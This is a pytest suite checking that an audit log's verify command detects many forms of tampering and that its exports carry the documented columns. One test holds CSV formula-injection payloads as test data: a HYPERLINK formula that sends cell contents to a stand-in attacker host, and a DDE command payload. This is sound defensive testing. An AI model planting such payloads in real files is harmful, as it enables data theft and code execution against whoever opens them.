"""The audit log's promises: tampering of every kind is caught by `audit verify` with the right sequence
number, personal texts live beside the chain, and the export has the documented columns and values."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner
from test_audit_support import T0, make_item, populated, raw

from socialwatch import audit
from socialwatch.cli.audit import audit_group
from socialwatch.store import audit_log
from socialwatch.store.db import Store
from socialwatch.store.schema import MIGRATIONS

ROOT = Path(__file__).resolve().parents[1]


def verify(path: Path, *extra: str) -> tuple[int, str]:
    result = CliRunner().invoke(audit_group, ["verify", "--database", str(path), *extra])
    return result.exit_code, result.output


@pytest.fixture
def log(tmp_path: Path) -> Path:
    path = tmp_path / "sw.db"
    populated(path)
    return path


def test_intact_log_verifies(log):
    code, out = verify(log)
    assert code == 0, out
    assert "intact: 12 entries" in out
    head = audit_log.audit_head(Store(log, migrate=False))
    assert head is not None and f"head {head.render()}" in out


def test_triggers_refuse_update_and_delete(log):
    conn = raw(log)
    for sql in (
        "UPDATE audit SET actor_name = 'eve' WHERE seq = 7",
        "DELETE FROM audit WHERE seq = 12",
        "UPDATE audit_content SET text = 'x' WHERE seq = 1",
        "DELETE FROM audit_head",
        "UPDATE audit_head SET seq = 3",
    ):
        with pytest.raises(Exception, match=r"append-only|never changed|cannot be deleted|only moves"):
            conn.execute(sql)
    # A plain INSERT that does not extend the head is refused too.
    with pytest.raises(Exception, match="extend the head"):
        conn.execute(
            "INSERT INTO audit (seq, ts, actor_id, actor_name, action, details, prev_hash, hash) "
            "VALUES (40, 't', 'a', 'a', 'x', '{}', ?, ?)",
            [audit.GENESIS, audit.GENESIS],
        )
    assert verify(log)[0] == 0


def test_update_after_dropping_triggers_is_caught(log):
    conn = raw(log)
    conn.execute("DROP TRIGGER audit_no_update")
    conn.execute("UPDATE audit SET actor_name = 'carol' WHERE seq = 9")  # who approved reply 2
    code, out = verify(log)
    assert code == 1
    assert "BROKEN at entry 9:" in out and "altered" in out
    assert "last good entry: 8:" in out


def test_edit_with_recomputed_hash_is_caught_at_the_edited_entry(log):
    """A careful forger recomputes the edited entry's hash; the next entry still records the original."""
    conn = raw(log)
    conn.execute("DROP TRIGGER audit_no_update")
    row = conn.execute("SELECT * FROM audit WHERE seq = 8").fetchone()
    details = json.dumps({"platform_reply_id": "6666", "reply_id": 1}, separators=(",", ":"), sort_keys=True)
    forged = audit.entry_hash(
        row["prev_hash"], 8, row["ts"], row["actor_id"], row["actor_name"], row["action"], row["item_key"], details
    )
    conn.execute("UPDATE audit SET details = ?, hash = ? WHERE seq = 8", [details, forged])
    code, out = verify(log)
    assert code == 1 and "BROKEN at entry 8:" in out and "recomputed" in out


def test_edit_of_the_last_entry_with_recomputed_hash_is_caught_by_the_head(log):
    conn = raw(log)
    conn.execute("DROP TRIGGER audit_no_update")
    row = conn.execute("SELECT * FROM audit WHERE seq = 12").fetchone()
    forged = audit.entry_hash(
        row["prev_hash"], 12, row["ts"], "U01", "alice", row["action"], row["item_key"], row["details"]
    )
    conn.execute("UPDATE audit SET actor_id = 'U01', actor_name = 'alice', hash = ? WHERE seq = 12", [forged])
    code, out = verify(log)
    assert code == 1 and "BROKEN at entry 12:" in out and "head" in out


def test_delete_in_the_middle_is_caught(log):
    conn = raw(log)
    conn.execute("DROP TRIGGER audit_no_delete")
    conn.execute("DELETE FROM audit_content WHERE seq = 10")  # its texts first (foreign key)
    conn.execute("DELETE FROM audit WHERE seq = 10")  # the reply.edited entry
    code, out = verify(log)
    assert code == 1 and "BROKEN at entry 10:" in out and "missing" in out


def test_delete_of_the_first_entry_is_caught(log):
    conn = raw(log)
    conn.execute("DROP TRIGGER audit_no_delete")
    conn.execute("DELETE FROM audit_content WHERE seq = 1")
    conn.execute("DELETE FROM audit WHERE seq = 1")
    assert verify(log)[1].count("BROKEN at entry 1:") == 1


def test_tail_truncation_is_caught(log):
    conn = raw(log)
    conn.execute("DROP TRIGGER audit_no_delete")
    conn.execute("DELETE FROM audit WHERE seq >= 11")  # reply 2's send and the refused click
    code, out = verify(log)
    assert code == 1 and "BROKEN at entry 11:" in out and "deleted from the end" in out


def test_tail_truncation_stays_visible_after_new_entries(log):
    """The next append continues from the head, so the cut-off tail remains a gap."""
    conn = raw(log)
    conn.execute("DROP TRIGGER audit_no_delete")
    conn.execute("DELETE FROM audit WHERE seq >= 11")
    store = Store(log)
    assert audit_log.append_audit(store, "daemon.start", details={"config_sha256": "0" * 64}) == 13
    code, out = verify(log)
    assert code == 1 and "BROKEN at entry 11:" in out


def test_forged_entry_appended_without_the_head_is_caught(log):
    conn = raw(log)
    conn.execute("DROP TRIGGER audit_extends_head")
    last = conn.execute("SELECT * FROM audit WHERE seq = 12").fetchone()
    ts = "2026-03-01T10:00:00.000000Z"
    details = '{"reply_id":2}'
    digest = audit.entry_hash(last["hash"], 13, ts, "U01", "alice", "reply.approved", "x:5002", details)
    conn.execute(
        "INSERT INTO audit VALUES (13, ?, 'U01', 'alice', 'reply.approved', 'x:5002', ?, ?, ?)",
        [ts, details, last["hash"], digest],
    )
    code, out = verify(log)
    assert code == 1 and "BROKEN at entry 13:" in out and "behind socialwatch's back" in out


def test_reordered_entries_are_caught(log):
    conn = raw(log)
    conn.execute("DROP TRIGGER audit_no_update")
    conn.execute("PRAGMA foreign_keys = OFF")
    # Swap entries 4 and 5 (two alerts) wholesale, hashes included.
    conn.execute("UPDATE audit SET seq = -4 WHERE seq = 4")
    conn.execute("UPDATE audit SET seq = 4 WHERE seq = 5")
    conn.execute("UPDATE audit SET seq = 5 WHERE seq = -4")
    code, out = verify(log)
    assert code == 1 and "BROKEN at entry 4:" in out


def test_altered_text_beside_the_chain_is_caught(log):
    conn = raw(log)
    conn.execute("DROP TRIGGER audit_content_no_update")
    conn.execute("UPDATE audit_content SET text = 'We are on it!' WHERE seq = 10 AND field = 'final'")
    code, out = verify(log)
    assert code == 1 and "BROKEN at entry 10:" in out and "'final'" in out


def test_text_deleted_outside_a_purge_is_caught(log):
    conn = raw(log)
    conn.execute("DELETE FROM audit_content WHERE seq = 2 AND field = 'text'")
    code, out = verify(log)
    assert code == 1 and "BROKEN at entry 2:" in out and "no retention purge" in out


def test_rewritten_log_needs_an_anchor_kept_elsewhere(log):
    """What verify cannot prove alone: a writer who drops the triggers, truncates the log and moves the head.
    A head recorded earlier outside the database (`audit head`, the journal) still catches it."""
    code, out = CliRunner().invoke(audit_group, ["head", "--database", str(log)]).exit_code, None
    recorded = CliRunner().invoke(audit_group, ["head", "--database", str(log)]).output.split()[0]
    assert code == 0 and recorded.startswith("12:")
    conn = raw(log)
    for trigger in ("audit_no_delete", "audit_head_forward_only"):
        conn.execute(f"DROP TRIGGER {trigger}")
    conn.execute("DELETE FROM audit WHERE seq >= 11")
    tenth = conn.execute("SELECT hash, ts FROM audit WHERE seq = 10").fetchone()
    conn.execute("UPDATE audit_head SET seq = 10, hash = ?, ts = ?", [tenth["hash"], tenth["ts"]])
    # The chain alone is consistent again; the reply outbox still says what the cut entries recorded.
    code, out = verify(log)
    assert code == 1 and "BROKEN: reply 2 (x:5001) differs from its audit entries" in out and "status" in out
    code, out = verify(log, "--anchor", recorded)
    assert code == 1 and "BROKEN at entry 11:" in out and "anchor" in out
    # An anchor whose hash differs at the same seq (the log was rewritten from there) is caught too.
    assert verify(log, "--anchor", "3:" + "f" * 64)[1].count("BROKEN at entry 3:") == 1


def test_verify_json_and_cannot_check(tmp_path, log):
    result = CliRunner().invoke(audit_group, ["verify", "--database", str(log), "--json"])
    report = json.loads(result.output)
    assert result.exit_code == 0 and report["ok"] and report["checked"] == 12 and report["first_bad_seq"] is None
    missing = CliRunner().invoke(audit_group, ["verify", "--database", str(tmp_path / "nope.db")])
    assert missing.exit_code == 2 and "no database" in missing.output
    bad_anchor = CliRunner().invoke(audit_group, ["verify", "--database", str(log), "--anchor", "12:abc"])
    assert bad_anchor.exit_code == 2 and "SEQ:HASH" in bad_anchor.output


def test_texts_live_beside_the_chain(log):
    """The hashed rows hold no customer text; audit_rows gives it back in `data`."""
    store = Store(log, migrate=False)
    rows = list(audit_log.audit_rows(store))
    received = rows[0]
    assert received["action"] == "item.received"
    assert "charged me twice" not in received["details"] and "cust0" not in received["details"]
    assert received["data"]["text"] == make_item(0).text
    assert received["data"]["author_handle"] == "cust0"
    assert received["data"]["priority"] and received["data"]["category"] == "billing"
    assert len(received["data"]["suggestions"]) >= 2 and all(received["data"]["suggestions"])
    edited = next(r for r in rows if r["action"] == "reply.edited")
    assert edited["data"]["suggested"] == "We are looking into it."
    assert edited["data"]["final"].startswith("So sorry about the outage")
    # Commitments are salted: the same text twice gives two different hashes.
    refs = [audit.content_refs(r["details"]).get("final") for r in rows if r["seq"] in (9, 10)]
    assert refs[0] and refs[1] and refs[0] != refs[1]


def test_old_database_is_migrated_with_its_log_intact(tmp_path, monkeypatch):
    """A database of schema 1 (texts inside the hashed rows, no head) keeps verifying after migration."""
    path = tmp_path / "old.db"
    monkeypatch.setattr("socialwatch.store.schema.MIGRATIONS", [m for m in MIGRATIONS if m[0] < 20])
    Store(path)
    conn = raw(path)
    prev = audit.GENESIS
    for seq in (1, 2):
        details = audit.canonical({"text": "old style, text inside the chain", "n": seq})
        digest = audit.entry_hash(prev, seq, "2025-01-01T00:00:00.000000Z", "system", "system", "x", None, details)
        conn.execute(
            "INSERT INTO audit VALUES (?, '2025-01-01T00:00:00.000000Z', 'system', 'system', 'x', NULL, ?, ?, ?)",
            [seq, details, prev, digest],
        )
        prev = digest
    result = audit_log.verify_audit(Store(path, migrate=False))
    assert result.ok and result.warnings  # no head yet: says a cut-off tail would go unnoticed
    monkeypatch.undo()
    store = Store(path)  # applies migration 20
    assert audit_log.audit_head(store) == audit.Head(2, prev, "2025-01-01T00:00:00.000000Z")
    audit_log.append_audit(store, "daemon.start")
    assert verify(path)[0] == 0
    assert [r["data"].get("text") for r in audit_log.audit_rows(store)] == ["old style, text inside the chain"] * 2 + [
        None
    ]


# --- export -------------------------------------------------------------------------------


def export(path: Path, *args: str) -> str:
    result = CliRunner().invoke(audit_group, ["export", "--database", str(path), *args])
    assert result.exit_code == 0, result.output
    return result.output


def test_reply_export_csv_columns_and_values(log):
    rows = list(csv.DictReader(io.StringIO(export(log, "--format", "csv"))))
    assert list(rows[0]) == list(audit.REPLY_COLUMNS)
    assert [r["item_key"] for r in rows] == ["x:5000", "x:5001"]
    first, second = rows
    assert first["post_text"] == make_item(0).text and first["author_handle"] == "cust0"
    assert first["approver_name"] == "alice" and first["approver_id"] == "U01"
    assert first["edited"] == "false" and first["final_text"] == first["suggested_text"]
    assert second["edited"] == "true"
    assert second["suggested_text"] == "We are looking into it."
    assert second["final_text"] == "So sorry about the outage, a fix is rolling out now."
    assert second["platform_reply_id"] == "9002" and second["status"] == "sent"
    # Posted at T0+1min, replied at T0+41min.
    assert second["posted_at"] == "2026-03-01T09:01:00.000000Z"
    assert second["received_at"] == "2026-03-01T09:05:00.000000Z"
    assert second["alerted_at"] == "2026-03-01T09:06:00.000000Z"
    assert second["replied_at"] == "2026-03-01T09:41:00.000000Z"
    assert float(second["response_seconds"]) == 40 * 60
    assert second["sent_audit_seq"] == "11"


def test_reply_export_jsonl_to_file_with_time_window(tmp_path, log):
    out = tmp_path / "replies.jsonl"
    result = CliRunner().invoke(
        audit_group,
        [
            "export",
            "--database",
            str(log),
            "--format",
            "jsonl",
            "--output",
            str(out),
            "--since",
            "2026-03-01T09:30:00Z",
            "--until",
            "2026-03-02",
        ],
    )
    assert result.exit_code == 0 and "1 replies written" in result.output
    rows = [json.loads(line) for line in out.read_text().splitlines()]
    assert len(rows) == 1 and rows[0]["approver_name"] == "bob" and rows[0]["edited"] is True
    assert rows[0]["public"] is True and rows[0]["purged"] is False
    assert export(log, "--format", "jsonl", "--until", "2026-03-01T09:00:00Z") == ""


def test_events_export_has_every_entry_with_its_texts(log):
    rows = [json.loads(line) for line in export(log, "--events", "--format", "jsonl").splitlines()]
    assert [r["seq"] for r in rows] == list(range(1, 13))
    assert list(rows[0]) == list(audit.EVENT_COLUMNS)
    assert rows[0]["details"]["text"] == make_item(0).text
    assert rows[11]["action"] == "action.refused" and rows[11]["actor_name"] == "mallory"
    window = [
        json.loads(line)
        for line in export(
            log, "--events", "--format", "jsonl", "--since", (T0 + timedelta(minutes=40)).isoformat()
        ).splitlines()
    ]
    assert [r["action"] for r in window] == ["reply.approved", "reply.edited", "reply.sent", "action.refused"]
    table = list(csv.DictReader(io.StringIO(export(log, "--events"))))
    assert len(table) == 12 and json.loads(table[9]["details"])["suggested"] == "We are looking into it."


def test_csv_cells_never_run_as_spreadsheet_formulas(tmp_path):
    from test_audit_support import approve_and_send, ingest

    store = Store(tmp_path / "sw.db")
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"refund")'
    [item_id] = ingest(store, [make_item(0, text=hostile)], T0)
    dde = "@SUM(1+1)*cmd|' /C calc'!A0"
    approve_and_send(
        store,
        item_id,
        final="+1 thanks",
        suggested=dde,
        approver=("U01", "=cmd"),
        approved_at=T0 + timedelta(minutes=1),
        sent_at=T0 + timedelta(minutes=2),
        platform_id="1",
    )
    row = next(csv.DictReader(io.StringIO(export(store.path))))
    assert row["post_text"] == "'" + hostile
    assert (row["final_text"], row["suggested_text"], row["approver_name"]) == ("'+1 thanks", "'" + dde, "'=cmd")
    as_json = json.loads(export(store.path, "--format", "jsonl"))
    assert as_json["post_text"] == hostile  # JSONL is verbatim


def test_bad_dates_are_explained(log):
    result = CliRunner().invoke(audit_group, ["export", "--database", str(log), "--since", "last tuesday"])
    assert result.exit_code == 2 and "2026-01-31" in result.output


def test_compliance_doc_names_every_export_column_and_command():
    doc = (ROOT / "docs" / "compliance.md").read_text(encoding="utf-8")
    missing = [c for c in (*audit.REPLY_COLUMNS, *audit.EVENT_COLUMNS) if f"`{c}`" not in doc]
    assert not missing, f"docs/compliance.md does not describe export columns {missing}"
    for command in ("audit verify", "audit head", "audit export", "audit purge", "socialwatch review", "--anchor"):
        assert command in doc


# --- the reply outbox against the chain -------------------------------------------------------

FORGED = "We admit liability and will pay 1000 EUR"


def test_forged_reply_outbox_row_is_named_by_verify_and_export_shows_the_chained_version(log):
    """The outbox has no triggers (the sender updates it): an UPDATE of text and approver is still caught."""
    raw(log).execute(
        "UPDATE reply_outbox SET text = ?, approved_by = 'U66', approved_by_name = 'eve' WHERE id = 2", [FORGED]
    )
    code, out = verify(log)
    assert code == 1
    assert "BROKEN: reply 2 (x:5001) differs from its audit entries (approved at entry 9)" in out
    assert "in final_text, approver_id, approver_name:" in out and "altered" in out
    rows = {r["reply_id"]: r for r in csv.DictReader(io.StringIO(export(log, "--format", "csv")))}
    assert rows["2"]["final_text"] == "So sorry about the outage, a fix is rolling out now."
    assert (rows["2"]["approver_id"], rows["2"]["approver_name"]) == ("U02", "bob")
    assert FORGED not in export(log, "--format", "jsonl")
    assert rows["2"]["chain_check"].startswith("altered: final_text")
    assert rows["1"]["chain_check"] == ""  # the untouched row is not marked
    report = json.loads(CliRunner().invoke(audit_group, ["verify", "--database", str(log), "--json"]).output)
    assert report["ok"] is False and report["first_bad_seq"] is None and "reply 2" in report["problem"]


def test_forged_status_and_platform_id_are_caught(log):
    raw(log).execute("UPDATE reply_outbox SET status = 'failed', platform_reply_id = NULL WHERE id = 1")
    code, out = verify(log)
    assert code == 1 and "reply 1 (x:5000)" in out and "status, platform_reply_id" in out
    [first] = [r for r in csv.DictReader(io.StringIO(export(log))) if r["reply_id"] == "1"]
    assert (first["status"], first["platform_reply_id"]) == ("sent", "9001")


def test_reply_row_inserted_without_an_approval_entry_is_named(log):
    conn = raw(log)
    conn.execute(
        "INSERT INTO reply_outbox (item_id, dedupe_key, text, approved_by, approved_by_name, approved_at, status) "
        "VALUES (3, 'forged', ?, 'U01', 'alice', '2026-03-01T10:00:00.000000Z', 'sent')",
        [FORGED],
    )
    code, out = verify(log)
    assert code == 1 and "reply 3 (x:5002) is in the reply outbox but no audit entry approved it" in out
    [forged] = [r for r in csv.DictReader(io.StringIO(export(log))) if r["reply_id"] == "3"]
    assert forged["chain_check"].startswith("not in the audit log")


def test_purged_reply_texts_are_not_forgeries(log):
    from socialwatch.compliance import retention

    store = Store(log)
    retention.purge(store, 1, texts=True)  # everything in the fixture is older than a day
    code, out = verify(log)
    assert code == 0, out
    assert all(r["chain_check"] == "" for r in csv.DictReader(io.StringIO(export(log))))


def test_a_moved_approval_time_cannot_hide_a_reply_from_an_export_period(log):
    raw(log).execute("UPDATE reply_outbox SET approved_at = '2025-01-01T00:00:00.000000Z' WHERE id = 2")
    code, out = verify(log)
    assert code == 1 and "reply 2 (x:5001)" in out and "approved_at" in out
    rows = list(csv.DictReader(io.StringIO(export(log, "--since", "2026-03-01", "--until", "2026-03-02"))))
    assert sorted(r["reply_id"] for r in rows) == ["1", "2"]  # still in its real period, at its chained time
    [moved] = [r for r in rows if r["reply_id"] == "2"]
    assert moved["approved_at"] == "2026-03-01T09:40:00.000000Z" and "approved_at" in moved["chain_check"]
    assert export(log, "--until", "2026-01-01").count("\n") == 1  # not in the period its forged time names


def test_a_forged_post_under_a_reply_is_named_and_exported_as_received(log):
    """The export's customer side (post, author, triage) comes from the items table: checked too."""
    conn = raw(log)
    original = conn.execute("SELECT text FROM items WHERE native_id = '5000'").fetchone()[0]
    conn.execute("UPDATE items SET text = 'I love you all, no complaint', priority = 'low' WHERE native_id = '5000'")
    code, out = verify(log)
    assert code == 1 and "the post reply 1 answers (x:5000) differs from its item.received entry" in out
    assert "post_text, priority" in out
    [first] = [r for r in csv.DictReader(io.StringIO(export(log))) if r["reply_id"] == "1"]
    assert first["post_text"] == original and first["priority"] != "low"
    assert first["chain_check"].startswith("altered: post_text, priority")
